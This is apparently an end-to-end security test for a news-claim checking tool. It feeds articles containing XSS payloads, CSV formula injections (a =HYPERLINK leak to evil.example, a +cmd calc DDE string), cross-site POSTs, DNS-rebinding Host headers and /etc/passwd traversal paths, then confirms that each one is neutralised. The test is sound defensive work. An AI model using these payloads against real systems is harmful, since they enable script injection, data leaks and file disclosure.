#!/usr/bin/env python3
"""Hostile article content shows as text everywhere claimcheck shows it.

A feed of two articles about the same storm (their death tolls conflict), whose
title, outlet, URL and text carry <script>alert(1)</script>, an attribute-
breaking `" onmouseover="x`, Markdown markup, and spreadsheet formulas
(=HYPERLINK(...), @SUM, +cmd, -cmd, a tab) in the places a CSV cell starts.
After `claimcheck run`:
  - report.html and the review server's list and detail pages hold no live
    <script>/onmouseover from the article, and show it escaped;
  - report.md holds no raw tag (HTML entities instead);
  - every cell of discrepancies.csv and of `export claims|conflicts` (csv)
    that would start a formula starts with ' instead; a plain negative
    number stays a number;
  - the server refuses a cross-site POST (Origin of another site) even with a
    valid session and token, answers only to loopback Host names (DNS
    rebinding), and serves no file for traversal paths.

usage: hostile_test.py CLAIMCHECK WORKDIR
"""

import csv
import http.client
import io
import json
import os
import re
import shutil
import subprocess
import sys
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
import e2e_util as u  # noqa: E402

SCRIPT = "<script>alert(1)</script>"
BREAK = '" onmouseover="x'
HOSTILE_URL = 'http://news.example/bao?a="><script>alert(1)</script>&b=" onmouseover="x'
FORMULA_URL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

ARTICLES = [
    {
        "url": HOSTILE_URL,
        "outlet": "Báo " + SCRIPT + BREAK,
        "title": "Bão Yagi " + SCRIPT + BREAK,
        "published": "2024-09-10",
        "language": "vi",
        "text": ("Bão Yagi " + SCRIPT + BREAK + "\n\n"
                 "Theo báo cáo của tỉnh, tính đến tối 9/9, bão Yagi làm 14 người chết tại Quảng Ninh "
                 + SCRIPT + BREAK + " [link](javascript:alert(1)) | `code`.\n"),
    },
    {
        "url": FORMULA_URL,
        "outlet": "@SUM(1+1)",
        "title": "+cmd|' /C calc'!A0",
        "published": "2024-09-11",
        "language": "vi",
        "text": ("-cmd tiêu đề\n\n"
                 "=1+1 Theo báo cáo của tỉnh, tính đến tối 10/9, bão Yagi làm 20 người chết tại Quảng Ninh.\n"),
    },
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def expect(cond, message):
    if not cond:
        u.fail(message)


def check_html(name, html):
    expect(SCRIPT not in html, f"{name}: a live {SCRIPT}")
    expect(BREAK not in html, f"{name}: an unescaped attribute break {BREAK!r}")
    expect("onmouseover=\"" not in html, f"{name}: an onmouseover attribute")
    expect("&lt;script&gt;alert(1)&lt;/script&gt;" in html, f"{name}: the article's script tag is not shown as text")
    expect('href="javascript:' not in html, f"{name}: a javascript: link")
    for m in re.finditer(r"<script\b[^>]*>", html):
        expect(m.group(0) == '<script src="/app.js" defer>', f"{name}: unexpected script element {m.group(0)}")


def check_csv(name, text):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    expect(len(rows) > 1, f"{name}: no rows")
    cells = 0
    for row in rows[1:]:
        for cell in row:
            cells += 1
            if cell.startswith(FORMULA_START) and not NUMBER.match(cell):
                u.fail(f"{name}: cell {cell!r} would start a formula")
    flat = [c for r in rows for c in r]
    expect(any(c.startswith("'=HYPERLINK") for c in flat) or "'=1+1" in text,
           f"{name}: the formula cell is not shown neutralised")
    return cells


def serve_checks(cc, db, conflict_ids):
    server = subprocess.Popen([cc, "serve", "--db", db, "--port", "0"], env=u.env(),
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        line = server.stderr.readline()
        m = re.search(r"http://127\.0\.0\.1:(\d+)/", line)
        expect(m, f"serve did not say it listens on loopback by default: {line!r}")
        port = int(m.group(1))

        def request(method, path, body=None, headers=None):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.request(method, path, body=body, headers=headers or {})
            r = conn.getresponse()
            data = r.read().decode("utf-8", "replace")
            result = (r.status, dict(r.getheaders()), data)
            conn.close()
            return result

        status, headers, page = request("GET", "/")
        expect(status == 200, f"GET / gave {status}")
        check_html("serve /", page)
        cookie = headers.get("Set-Cookie", "").split(";")[0]
        for cid in conflict_ids:
            status, _, page = request("GET", f"/conflict/{cid}", headers={"Cookie": cookie})
            expect(status == 200, f"GET /conflict/{cid} gave {status}")
            check_html(f"serve /conflict/{cid}", page)
        cid = conflict_ids[0]
        _, _, page = request("GET", f"/conflict/{cid}", headers={"Cookie": cookie})
        token = re.search(r'name="csrf" value="([0-9a-f]{32})"', page).group(1)
        form = urllib.parse.urlencode({"csrf": token, "status": "dismissed", "note": SCRIPT}).encode()
        post_headers = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded",
                        "Host": f"127.0.0.1:{port}"}
        for origin in ("http://evil.example", "null", f"http://localhost.evil.example:{port}"):
            status, _, _ = request("POST", f"/conflict/{cid}/review", form, {**post_headers, "Origin": origin})
            expect(status == 403, f"a cross-site POST (Origin {origin}) gave {status}, expected 403")
        status, _, _ = request("POST", f"/conflict/{cid}/review", form,
                               {**post_headers, "Referer": "http://evil.example/page"})
        expect(status == 403, f"a cross-site POST (Referer) gave {status}, expected 403")
        status, _, _ = request("POST", f"/conflict/{cid}/review", form,
                               {**post_headers, "Origin": f"http://127.0.0.1:{port}"})
        expect(status == 303, f"a same-site POST gave {status}, expected 303")
        _, _, page = request("GET", f"/conflict/{cid}", headers={"Cookie": cookie})
        check_html("serve detail with a hostile note", page)
        status, _, _ = request("GET", "/", headers={"Host": f"rebound.evil.example:{port}"})
        expect(status == 403, f"a request for another Host name (DNS rebinding) gave {status}, expected 403")
        for path in ("/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd",
                     "/conflict/..%2f..%2f..%2fetc%2fpasswd", "//etc/passwd", "/" + os.path.basename(db)):
            status, _, body = request("GET", path)
            expect(status in (400, 404), f"GET {path} gave {status}")
            expect("root:" not in body and "SQLite format" not in body, f"GET {path} served a file")
    finally:
        server.terminate()
        server.wait(timeout=10)
        server.stderr.close()


def main():
    cc, work = sys.argv[1:3]
    shutil.rmtree(work, ignore_errors=True)
    os.makedirs(work)
    feed = os.path.join(work, "feed.jsonl")
    with open(feed, "w", encoding="utf-8") as f:
        for a in ARTICLES:
            f.write(json.dumps(a, ensure_ascii=False) + "\n")
    db = os.path.join(work, "hostile.db")
    out = os.path.join(work, "report")
    p = u.run([cc, "run", feed, "--db", db, "--out", out])
    expect(p.returncode in (0, 3), f"run exited {p.returncode}: {p.stderr}")

    conflicts = json.loads(u.run([cc, "export", "conflicts", "--db", db, "--format", "json"], check=0).stdout)
    expect(conflicts, "the two articles gave no conflict (the fixture no longer exercises the report)")
    ids = [c["conflict_id"] for c in conflicts]

    with open(os.path.join(out, "report.html"), encoding="utf-8") as f:
        check_html("report.html", f.read())
    with open(os.path.join(out, "report.md"), encoding="utf-8") as f:
        md = f.read()
    expect("<" not in md, "report.md holds a raw tag")
    expect("&lt;script&gt;alert(1)&lt;/script&gt;" in md, "report.md does not show the url's tag as text")
    with open(os.path.join(out, "discrepancies.csv"), encoding="utf-8", newline="") as f:
        check_csv("discrepancies.csv", f.read())
    for what in ("claims", "conflicts"):
        for extra in ([], ["--excel"]):
            text = u.run([cc, "export", what, "--db", db, *extra], check=0).stdout
            check_csv(f"export {what} {' '.join(extra)}", text)
    serve_checks(cc, db, ids)
    print(f"ok: {len(ids)} conflict(s); html, md, csv and the review pages show the article as text")
    return 0


if __name__ == "__main__":
    sys.exit(main())
